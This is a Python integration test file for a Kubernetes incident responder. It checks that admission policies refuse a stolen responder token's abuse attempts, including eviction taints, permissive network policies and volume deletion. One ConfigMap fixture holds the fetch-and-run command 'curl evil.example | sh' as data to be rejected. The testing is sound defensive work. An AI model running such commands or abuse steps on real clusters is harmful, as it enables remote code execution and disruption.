"""A thief of the responder's credentials against the cluster's admission rails.

The cluster's admin applied the rails `falco-responder policy admission` prints for the
approved policy (ORIGINAL). The thief holds the responder's token and has edited the
responder's policy to remove every rail of its own (EDITED: no protected namespace, DaemonSet
pods fair game, no alert age): neither the responder's code nor its policy stands in the
way. Each path of issue 16's list is tried with the token, straight at the API server;
every attempt is refused, and the responder's legitimate actions still pass.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest
from kubernetes import client
from kubernetes.client.rest import ApiException

from localdev.local_stack.stack import RESPONDER_TOKEN, LocalStack
from localdev.local_stack.wait import wait_until
from responder import admission
from responder.actions.isolate import ISOLATION_LABEL
from responder.circuit_breaker import CONFIGMAP, DATA_KEY
from responder.policy import BUILT_IN_PROTECTED_NAMESPACES, parse_policy
from tests.conftest import as_bytes, kube_api_client, status_of
from tests.integration.conftest import (
    old_pod,
    outcomes,
    policy_rule,
    rule_alert,
    stack_with_policy,
)

ADMIN = "adversary-rails-admin"
BREAKER_NAMESPACE = "falco-responder"
SUSPECT = {"security/suspect": "true"}
RULES = [
    policy_rule("delete", {"action": "delete_pod", "grace_period_seconds": 0}),
    policy_rule("label", {"action": "label_pod", "add": SUSPECT}),
    policy_rule("isolate", {"action": "isolate_pod"}),
    policy_rule("cordon", {"action": "cordon_node"}),
    policy_rule("scale", {"action": "scale_to_zero"}),
]
ORIGINAL = {"safety": {"circuit_breaker": {"max_actions": 100_000}}, "rules": RULES}
EDITED = {
    "dry_run": False,
    "safety": {
        "unprotect": list(BUILT_IN_PROTECTED_NAMESPACES),
        "ignore_daemonset_pods": False,
        "max_alert_age": None,
        # Kept (a huge count) so the RBAC, which the admin granted, is the same.
        "circuit_breaker": {"max_actions": 100_000},
    },
    "rules": RULES,
}
DENIED = "denied request: "


@dataclass
class Thief:
    core: client.CoreV1Api
    apps: client.AppsV1Api
    networking: client.NetworkingV1Api


@pytest.fixture(scope="module")
def cluster(stack: LocalStack) -> Iterator[LocalStack]:
    """A responder running EDITED, on a cluster holding ORIGINAL's rails."""
    with stack_with_policy(stack, EDITED, "falco-responder-adversary-rails") as local:
        local.kube.add_token(ADMIN, verbs="*")
        [policy, _] = admission.manifests(parse_policy(ORIGINAL, "original"), [admission_user()])
        with kube_api_client(local.kube, ADMIN) as api_client:
            registration = client.AdmissionregistrationV1Api(api_client)
            installed = registration.read_validating_admission_policy(admission.NAME)
            installed.spec = policy["spec"]
            registration.replace_validating_admission_policy(admission.NAME, installed)
        for namespace in ("gke-managed-foo", BREAKER_NAMESPACE):
            if local.kube.get_object("namespaces", namespace) is None:
                local.kube.create_namespace(namespace)
        local.kube.create_node("node-victim")
        yield local


def admission_user() -> str:
    return admission.service_account_user(admission.DEFAULT_SERVICE_ACCOUNT)


@pytest.fixture
def thief(cluster: LocalStack) -> Iterator[Thief]:
    with kube_api_client(cluster.kube, RESPONDER_TOKEN) as api_client:
        yield Thief(
            client.CoreV1Api(api_client),
            client.AppsV1Api(api_client),
            client.NetworkingV1Api(api_client),
        )


def refused(attempt: Callable[[], object]) -> str:
    """The message of the API server's 403 to the attempt."""
    with pytest.raises(ApiException) as caught:
        attempt()
    assert caught.value.status == 403, caught.value.body
    message = status_of(caught.value)["message"]
    assert "ValidatingAdmissionPolicy 'falco-responder-rails'" in message
    return message.split(DENIED, 1)[1]


# --- the thief, with the token ---------------------------------------------------------------


def test_a_noexecute_taint_on_a_node_is_refused(cluster, thief):
    taint = {"key": "evict-all", "effect": "NoExecute"}
    patch = {"spec": {"unschedulable": True, "taints": [taint]}}
    assert refused(lambda: thief.core.patch_node("node-victim", patch)) == (
        admission.CORDON_MESSAGE
    )
    assert not cluster.kube.get_object("nodes", "node-victim")["spec"].get("taints")


def test_an_owner_reference_on_a_node_is_refused(cluster, thief, unique):
    owner = {"apiVersion": "v1", "kind": "ConfigMap", "name": unique, "uid": unique}
    patch = {"metadata": {"ownerReferences": [owner]}, "spec": {"unschedulable": True}}
    assert refused(lambda: thief.core.patch_node("node-victim", patch)) == (
        admission.CORDON_MESSAGE
    )
    assert not cluster.kube.get_object("nodes", "node-victim")["metadata"].get("ownerReferences")


def test_scaling_a_statefulset_to_zero_while_deleting_its_volumes_is_refused(
    cluster, thief, unique
):
    name = f"db-{unique}"
    cluster.kube.create_statefulset("default", name, 2, {"app": name})
    retention = {"whenDeleted": "Retain", "whenScaled": "Delete"}
    patch = {"spec": {"replicas": 0, "persistentVolumeClaimRetentionPolicy": retention}}
    assert refused(lambda: thief.apps.patch_namespaced_stateful_set(name, "default", patch)) == (
        admission.SCALE_MESSAGE
    )
    assert cluster.kube.get_object("statefulsets", name, "default")["spec"]["replicas"] == 2


def test_relabelling_a_pod_into_another_services_selector_is_refused(cluster, thief, unique):
    name = f"web-{unique}"
    old_pod(cluster, "default", name, labels={"app": "web"})
    patch = {"metadata": {"labels": {"app": "payments"}}}
    assert refused(lambda: thief.core.patch_namespaced_pod(name, "default", patch)) == (
        admission.POD_UPDATE_MESSAGE
    )
    # Nor the policy's own label with another value.
    patch = {"metadata": {"labels": {"security/suspect": "false"}}}
    assert refused(lambda: thief.core.patch_namespaced_pod(name, "default", patch)) == (
        admission.POD_UPDATE_MESSAGE
    )
    assert cluster.kube.get_pod("default", name)["metadata"]["labels"] == {"app": "web"}


@pytest.mark.parametrize(
    "spec",
    [
        # isolate_pod's name, selecting every pod, allowing everything in
        {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [{}]},
        # its name and selector, with a rule that lets all traffic in
        {
            "podSelector": {"matchLabels": {ISOLATION_LABEL: "true"}},
            "policyTypes": ["Ingress", "Egress"],
            "ingress": [{"from": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}],
        },
        # egress left open
        {"podSelector": {"matchLabels": {ISOLATION_LABEL: "true"}}, "policyTypes": ["Ingress"]},
    ],
)
def test_a_permissive_network_policy_is_refused(cluster, thief, spec, unique):
    namespace = f"tenant-{unique}"
    cluster.kube.create_namespace(namespace)
    body = {"metadata": {"name": "falco-responder-isolate"}, "spec": spec}
    assert refused(lambda: thief.networking.create_namespaced_network_policy(namespace, body)) == (
        admission.ISOLATION_MESSAGE
    )
    assert cluster.kube.list_objects("networkpolicies", namespace) == []


def test_an_odd_breaker_configmap_is_refused(cluster, thief):
    odd = {
        "metadata": {"name": CONFIGMAP},
        "data": {DATA_KEY: "{}", "payload": "curl evil.example | sh"},
    }
    message = refused(lambda: thief.core.create_namespaced_config_map(BREAKER_NAMESPACE, odd))
    assert message == admission.BREAKER_MESSAGE


def test_deleting_a_pod_in_a_gke_managed_namespace_is_refused(cluster, thief, unique):
    name = f"agent-{unique}"
    old_pod(cluster, "gke-managed-foo", name)
    message = refused(lambda: thief.core.delete_namespaced_pod(name, "gke-managed-foo"))
    assert message == (
        "falco-responder may not change anything in the protected namespace gke-managed-foo"
    )
    assert cluster.kube.get_pod("gke-managed-foo", name) is not None


def test_deleting_a_daemonset_pod_is_refused(cluster, thief, unique):
    name = f"agent-{unique}"
    daemonset = cluster.kube.create_daemonset("default", name, {"app": name})
    old_pod(cluster, "default", f"{name}-x", owner=daemonset)
    message = refused(lambda: thief.core.delete_namespaced_pod(f"{name}-x", "default"))
    assert message == admission.DAEMONSET_POD_MESSAGE
    assert cluster.kube.get_pod("default", f"{name}-x") is not None


# --- the responder running the edited policy -------------------------------------------------


def send(cluster: LocalStack, rule: str, pod: str, namespace: str = "default") -> dict:
    alert = rule_alert(pod, rule, namespace=namespace)
    cluster.publish(as_bytes(alert))
    [record] = outcomes(cluster, alert["uuid"], 1)
    return record


def test_the_legitimate_actions_still_pass(cluster, unique):
    name = f"web-{unique}"
    cluster.kube.create_deployment("default", name, 2, {"app": name})
    [replica_set] = cluster.kube.owned_by(
        cluster.kube.get_object("deployments", name, namespace="default")
    )
    old_pod(cluster, "default", name, owner=replica_set, node_name="node-victim")
    old_pod(cluster, "default", f"{name}-bare")
    for rule, pod in [
        ("label", name),
        ("isolate", name),
        ("cordon", name),
        ("scale", name),
        ("delete", f"{name}-bare"),
    ]:
        record = send(cluster, rule, pod)
        assert [a["outcome"] for a in record["actions"]] == ["done"], (rule, record)
    labels = cluster.kube.get_pod("default", name)["metadata"]["labels"]
    assert (labels["security/suspect"], labels[ISOLATION_LABEL]) == ("true", "true")
    assert cluster.kube.get_object("nodes", "node-victim")["spec"]["unschedulable"] is True
    assert cluster.kube.get_object("deployments", name, "default")["spec"]["replicas"] == 0
    assert cluster.kube.get_pod("default", f"{name}-bare") is None


@pytest.mark.parametrize("namespace", ["gke-managed-foo", "default"])
def test_a_responder_without_its_own_rails_is_still_held_by_the_clusters(
    cluster, unique, namespace
):
    """EDITED lets the responder delete a DaemonSet's pod and a pod in gke-managed-foo;
    the cluster refuses both (403: retried, then dead-lettered; never done)."""
    name = f"agent-{unique}"
    daemonset = cluster.kube.create_daemonset(namespace, name, {"app": name})
    pod = f"{name}-x"
    old_pod(cluster, namespace, pod, owner=daemonset)
    cluster.publish(as_bytes(rule_alert(pod, "delete", namespace=namespace)))
    path = f"/api/v1/namespaces/{namespace}/pods/{pod}"
    wait_until(
        lambda: [r for r in cluster.kube.requests if r.method == "DELETE" and r.path == path],
        60,
        f"the responder's DELETE of {namespace}/{pod}",
    )
    deletes = [r for r in cluster.kube.requests if r.method == "DELETE" and r.path == path]
    assert {r.status for r in deletes} == {403}
    assert cluster.kube.get_pod(namespace, pod) is not None
